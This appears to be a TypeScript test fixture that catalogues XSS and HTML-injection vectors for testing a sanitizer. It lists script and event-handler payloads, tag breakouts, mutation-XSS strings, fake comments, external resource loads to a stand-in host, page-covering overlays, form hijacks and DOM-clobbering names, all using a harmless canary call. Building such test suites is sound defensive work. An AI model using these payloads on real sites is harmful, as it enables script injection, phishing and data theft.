/**
 * Raw HTML that attacks a page. `boom()` and the host `canary.test` are canaries, which each get the vector's number;
 * HOST is the host's own origin.
 */
export interface Markup {
  readonly html: string;
  /**
   * The attack hits a page that takes it as HTML, with a reader who touches everything; this proves that the canary
   * works.
   */
  readonly hits?: boolean;
}

const hit = (html: string): Markup => ({ html, hits: true });
const other = (html: string): Markup => ({ html });

/** Every way in which HTML can run a script. */
const scripts: readonly Markup[] = [
  other('<script>boom()</script>'),
  other('<script src="https://canary.test/x.js"></script>'),
  other('<SCRIPT\n>boom()</SCRIPT\n>'),
  hit('<img src=x onerror=boom()>'),
  hit('<IMG SRC=x OnErRoR="boom()">'),
  hit('<img/src="x"/onerror="boom()">'),
  hit('<img src=x onerror\n=\n"boom()">'),
  hit('<img title="x" alt=\'"\' src=x onerror=boom()>'),
  hit('<svg onload=boom()>'),
  hit('<svg><animate onbegin=boom() attributeName=x dur=1s></svg>'),
  other('<svg><script>boom()</script></svg>'),
  other('<math><maction actiontype="statusline#x" xlink:href="javascript:boom()">x</maction></math>'),
  hit('<details open ontoggle=boom()><summary>x</summary></details>'),
  hit('<p onmouseover=boom()>x</p>'),
  hit('<div onclick=boom()>x</div>'),
  hit('<sub onpointerdown=boom()>x</sub>'),
  hit('<audio src=x onerror=boom()></audio>'),
  hit('<video><source onerror=boom() src=x></video>'),
  hit('<a href="javascript:boom()">x</a>'),
  hit('<a href="java&#10;script&colon;boom()">x</a>'),
  hit('<a href=" \u0001javascript:boom()">x</a>'),
  other('<iframe srcdoc="<script>parent.boom()</script>"></iframe>'),
  hit('<iframe src="javascript:parent.boom()"></iframe>'),
  hit('<object data="https://canary.test/x"></object>'),
  hit('<embed src="https://canary.test/x">'),
  other('<template><script>boom()</script></template>'),
  hit('<div><template shadowrootmode=open></template><img src=x onerror=boom()></div>'),
  other('<p style="animation: x" onanimationstart=boom()>x</p>'),
  other('<x-y is="x" onfocus=boom() tabindex=0 autofocus>x</x-y>'),
];

/** The ends of elements in which the text might be believed to be. */
const breakouts: readonly Markup[] = [
  hit('"><img src=x onerror=boom()>'),
  hit("'><img src=x onerror=boom()>"),
  hit('</title></style></textarea></script><img src=x onerror=boom()>'),
  hit('--><img src=x onerror=boom()>'),
  hit(']]><img src=x onerror=boom()>'),
  hit('</code></pre><img src=x onerror=boom()>'),
  hit('</a></p></blockquote></article><img src=x onerror=boom()>'),
  hit('x" onmouseover="boom()"><p onmouseover=boom()>x'),
  other('{{constructor.constructor("boom()")()}}'),
  other('${boom()}'),
];

/**
 * cure53/DOMPurify#495 and SonarSource/mxss-cheatsheet (pull request 7): markup whose meaning changes when it is parsed
 * again.
 */
const mutations: readonly Markup[] = [
  hit('<svg></p><style><a title="</style><img src=x onerror=boom()>">'),
  other('<table><a><table>'),
  hit('<noscript><p title="</noscript><img src=x onerror=boom()>">'),
  other('<template><script>boom()</script></template>'),
  hit(
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=boom()&gt;"><img src=x onerror=boom()>',
  ),
  other('<form><math><mtext></form><form><mglyph><style></math><img src onerror=boom()>'),
  hit('<svg><foreignObject><p><style></p></style><img src=x onerror=boom()></foreignObject></svg>'),
  hit('<xmp></xmp><img src=x onerror=boom()>'),
  hit('<textarea></textarea><img src=x onerror=boom()>'),
  other('<title><a href="</title><img src=x onerror=boom()>">'),
  other('<select><template><img src=x onerror=boom()></template></select>'),
];

/** SonarSource/mxss-cheatsheet#13: comments, and markup that only looks like a comment. */
const comments: readonly Markup[] = [
  hit('<! <img src=x onerror=boom()> ><img src=x onerror=boom()>'),
  hit('<?x <img src=x onerror=boom()> ?><img src=x onerror=boom()>'),
  other('</ x>'),
  hit('<!-- --!><img src=x onerror=boom()>'),
  hit('<!--><img src=x onerror=boom()>'),
  hit('<!---><img src=x onerror=boom()>'),
  hit('<!-- <!-- --><img src=x onerror=boom()> -->'),
  hit('<![CDATA[><img src=x onerror=boom()>]]>'),
];

/** daniel3303/Equibles#740, alkem-io/client-web#10334: resources that load besides a picture's own address. */
const pictures: readonly Markup[] = [
  other("<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='boom()'/>\">"),
  hit('<img src=x srcset="javascript:x 3x, https://canary.test/p.gif 1x">'),
  hit('<picture><source srcset="https://canary.test/p.gif"><img src=x></picture>'),
  hit('<video poster="https://canary.test/p.gif"></video>'),
  other('<a ping="https://canary.test/ping" href=/>x</a>'),
  other('<svg><use href="data:image/svg+xml,<svg id=x onload=boom()/>#x"/></svg>'),
  hit('<svg><image href="https://canary.test/p.gif"/></svg>'),
  hit('<table background="https://canary.test/p.gif"><tr><td>x</table>'),
  hit('<input type=image src="https://canary.test/p.gif">'),
  hit('<img src="HOST/canary/">'),
];

/**
 * hedgedoc/hedgedoc#6517, mganss/HtmlSanitizer#388, githubocto/flat-ui#33, GHSA-5qr5-6vh4-6g2j: markup that covers the
 * page.
 */
const overlays: readonly Markup[] = [
  other('<a href="//evil.test" style="position:fixed;inset:0;z-index:9999999">ok</a>'),
  hit('<div style="background:url(https://canary.test/p.gif)">x</div>'),
  other('<style>:host{display:none}body{display:none}</style>'),
  hit('<style>@import "https://canary.test/x.css";</style>'),
  hit('<link rel=stylesheet href="https://canary.test/x.css">'),
  other('<div style="--x:1;position:var(--p,fixed);inset:0">x</div>'),
  other('<div class="announcement facade player skip">x</div>'),
  other('<div popover id=x>x</div><button popovertarget=x>x</button>'),
  other('<dialog open style="position:fixed;inset:0">x</dialog>'),
  other('<marquee style="position:fixed">x</marquee>'),
  other('<img src=x width=99999 height=99999 align=left hspace=9999>'),
];

/** quantizor/markdown-to-jsx#630: forms and buttons, and markup that leads the page or a field away. */
const forms: readonly Markup[] = [
  hit('<form><button formaction="javascript:boom()">Send</button></form>'),
  other('<form action="https://canary.test/"><input type=password></form>'),
  other('<input form=reply-form name=email>'),
  other('<label for=reply-email>x</label>'),
  other('<meta http-equiv=refresh content="0;url=https://canary.test/">'),
  other('<base href="//canary.test/">'),
  other('<iframe srcdoc="<img src=x onerror=parent.boom()>"></iframe>'),
  other('<a href="https://canary.test/" target=_top>x</a>'),
  other('<button type=submit>x</button>'),
  hit('<isindex type=image src="https://canary.test/"><input type=image src="https://canary.test/p.gif">'),
  other('<textarea name=text>x</textarea>'),
  other('<input type=checkbox checked name=x>'),
];

/** Names that would take the place of the host's own. */
const names: readonly Markup[] = [
  other('<a id=config href="https://canary.test/">x</a><a id=config name=url href="https://canary.test/">x</a>'),
  other('<img name=cookie><img name=getElementById><img name=body>'),
  other('<form id=forms name=currentScript><input name=attributes></form>'),
  other('<a name=article-body id=article-body>x</a>'),
  other('<iframe name=config srcdoc="x"></iframe>'),
  other('<h2 id=__proto__>x</h2>'),
];

export const markup: readonly Markup[] = [
  scripts,
  breakouts,
  mutations,
  comments,
  pictures,
  overlays,
  forms,
  names,
].flat();
